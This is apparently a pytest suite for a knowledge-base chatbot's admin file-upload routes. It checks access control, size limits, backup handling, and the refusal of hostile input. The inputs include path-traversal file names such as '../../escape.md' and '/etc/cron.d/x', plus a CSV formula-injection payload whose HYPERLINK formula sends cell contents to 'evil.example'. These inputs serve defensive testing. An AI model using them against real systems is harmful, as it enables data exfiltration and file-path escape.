"""What comes over the wire: who may send what where, and what comes of hostile names and sizes."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from fastapi import FastAPI
from starlette.testclient import TestClient

from chatbot.assembly import Application
from tests.ui.admin.consoles import ADMINISTRATOR, MAX_UPLOAD_BYTES, by_header
from tests.vectorstore.corpus import write_files
from ui.admin.keeper import Keeper
from ui.admin.upload_routes import console_routes
from ui.admin.versions import VersionDesk

OWN = {"x-citedesk-console": "1"}
ADA = {**OWN, "x-test-who": "ada"}
TENANT = {**OWN, "x-test-who": "tenant"}
FILES = "/api/admin/files"


@pytest.fixture
def client(application: Application) -> Iterator[TestClient]:
    app = FastAPI()
    app.include_router(console_routes(application, by_header, max_upload_bytes=MAX_UPLOAD_BYTES))
    with TestClient(app) as client:
        yield client


def below(application: Application) -> list[str]:
    root = application.settings.data_dir
    return sorted(
        str(path.relative_to(root)) for path in root.rglob("*") if path.is_file() and "records" not in path.name
    )


def test_a_document_is_kept_and_noted(client: TestClient, application: Application) -> None:
    sent = client.post(f"{FILES}/documents", params={"kb": "default", "name": "价目表.md"}, content=b"one", headers=ADA)
    assert sent.json() == {"name": "价目表.md", "bytes": 3, "replaced": False}
    sent = client.post(f"{FILES}/documents", params={"kb": "default", "name": "价目表.md"}, content=b"two", headers=ADA)
    assert sent.json()["replaced"] is True
    assert below(application) == ["documents/default/价目表.md"]
    entry = application.records.audit.entries()[0]
    assert (entry.who, entry.action, entry.target) == ("ada", "documents.upload", "default/价目表.md")
    assert entry.before is not None
    assert entry.before != entry.after


@pytest.mark.parametrize(
    ("headers", "kb", "status"),
    [
        (OWN, "default", 401),
        ({**OWN, "x-test-who": "agent"}, "default", 403),
        # A form of another site cannot set the header.
        ({"x-test-who": "ada"}, "default", 401),
        (TENANT, "default", 404),
        (TENANT, "acme", 200),
        (ADA, "../default", 404),
        (ADA, "", 404),
        (ADA, "a" * 65, 404),
    ],
)
def test_only_an_administrator_of_the_knowledge_base_may_send_a_file(
    client: TestClient, application: Application, headers: dict[str, str], kb: str, status: int
) -> None:
    sent = client.post(f"{FILES}/documents", params={"kb": kb, "name": "a.md"}, content=b"x", headers=headers)
    assert sent.status_code == status
    assert below(application) == ([f"documents/{kb}/a.md"] if status == 200 else [])


@pytest.mark.parametrize("name", ["../../escape.md", "..\\escape.md", "/etc/cron.d/x", ".ssh", "a\x00.md", "nul", ""])
def test_a_hostile_name_is_refused_with_its_fault(client: TestClient, application: Application, name: str) -> None:
    sent = client.post(f"{FILES}/documents", params={"kb": "default", "name": name}, content=b"x", headers=ADA)
    assert sent.status_code == 400
    assert sent.json()["error"]["fault"] in {"path", "hidden", "control", "device", "empty"}
    assert below(application) == []


def test_a_document_that_is_too_large_is_refused_announced_or_not(client: TestClient, application: Application) -> None:
    params = {"kb": "default", "name": "a.md"}
    data = b"x" * (MAX_UPLOAD_BYTES + 1)
    announced = client.post(f"{FILES}/documents", params=params, content=data, headers=ADA)
    streamed = client.post(f"{FILES}/documents", params=params, content=iter([data[:100], data]), headers=ADA)
    for sent in (announced, streamed):
        assert (sent.status_code, sent.json()["error"]["fault"]) == (413, "large")
    assert below(application) == []


def test_another_kind_of_file_is_kept_elsewhere_or_refused(client: TestClient, application: Application) -> None:
    params = {"kb": "default", "name": "sheet.csv"}
    assert client.post(f"{FILES}/questions", params=params, content=b"x", headers=ADA).status_code == 200
    assert client.post(f"{FILES}/backups", params=params, content=b"x", headers=ADA).json()["error"]["fault"] == "kind"
    assert client.post(f"{FILES}/settings", params=params, content=b"x", headers=ADA).status_code == 422
    assert below(application) == ["questions/default/sheet.csv"]


def test_a_backup_is_brought_by_administrators_of_the_whole_server_only(
    client: TestClient, application: Application
) -> None:
    params = {"kb": "acme", "name": "copy.tar"}
    sent = client.post(f"{FILES}/backups", params=params, content=b"x", headers=TENANT)
    assert (sent.status_code, sent.json()["error"]["fault"]) == (403, "server")
    assert below(application) == []
    assert client.post(f"{FILES}/backups", params=params, content=b"x", headers=ADA).status_code == 200


@pytest.mark.long
def test_a_backup_comes_back_as_it_was_and_only_to_those_who_may_have_it(
    client: TestClient, application: Application, keeper: Keeper, versions: VersionDesk, folder: Path
) -> None:
    write_files(folder, {"prices.md": "# Prices\n\nThe pump P7 costs 900 euros.\n"})
    application.ingest(keeper.roots("default"))
    name = versions.back_up("default", ADMINISTRATOR)
    address = f"{FILES}/backups/default/{name}"
    got = client.get(address, headers=ADA)
    assert got.status_code == 200
    assert client.get(address, headers=TENANT).status_code == 404
    assert client.get(address).status_code == 401
    assert client.get(f"{FILES}/backups/default/..%2f..%2fkb.tar", headers=ADA).status_code in {400, 404}
    assert client.get(f"{FILES}/backups/default/other.tar", headers=ADA).status_code == 404
    params = {"kb": "acme", "name": "copy.tar"}
    sent = client.post(f"{FILES}/backups", params=params, content=got.content, headers=ADA)
    assert sent.json()["bytes"] == len(got.content)
    versions.restore("acme", "copy.tar", ADMINISTRATOR)
    assert "900 euros" in application.search("What does the pump P7 cost?", kb="acme").hits[0].chunk.text


def test_the_gate_s_questions_come_as_a_sheet_that_can_be_sent_again(
    client: TestClient, application: Application, tmp_path: Path
) -> None:
    template = client.get("/api/admin/questions/default", params={"template": True}, headers=ADA)
    assert template.content.startswith(b"\xef\xbb\xbfquestion,expected answer")
    (tmp_path / "sheet.csv").write_bytes(template.content)
    assert application.gate.set("default", tmp_path / "sheet.csv")["questions"] == 3
    sheet = client.get("/api/admin/questions/default", headers=ADA)
    before = application.gate.show("default")
    (tmp_path / "again.csv").write_bytes(sheet.content)
    application.gate.set("default", tmp_path / "again.csv")
    assert application.gate.show("default") == before
    assert client.get("/api/admin/questions/default").status_code == 401


def test_no_question_of_the_gate_s_sheet_is_a_formula_and_all_come_back_as_they_were(
    client: TestClient, application: Application, tmp_path: Path
) -> None:
    questions = [
        {"text": '=HYPERLINK("http://evil.example/?"&A2,"open")', "answers": ["-40 °C", "＝1"], "source": "@list.pdf"},
        {"text": "'=1+1 is what?", "answers": ["'quoted'"]},
        {"text": "''+49: which country?", "answers": ["|'-40 °C"]},
    ]
    (tmp_path / "own.jsonl").write_text("\n".join(json.dumps(own) for own in questions), encoding="utf-8")
    application.gate.set("default", tmp_path / "own.jsonl")
    before = application.gate.show("default")
    sheet = client.get("/api/admin/questions/default", headers=ADA)
    cells = [cell for row in csv.reader(io.StringIO(sheet.content.decode("utf-8-sig"), newline="")) for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "＝"))]
    (tmp_path / "again.csv").write_bytes(sheet.content)
    application.gate.set("default", tmp_path / "again.csv")
    assert application.gate.show("default") == before
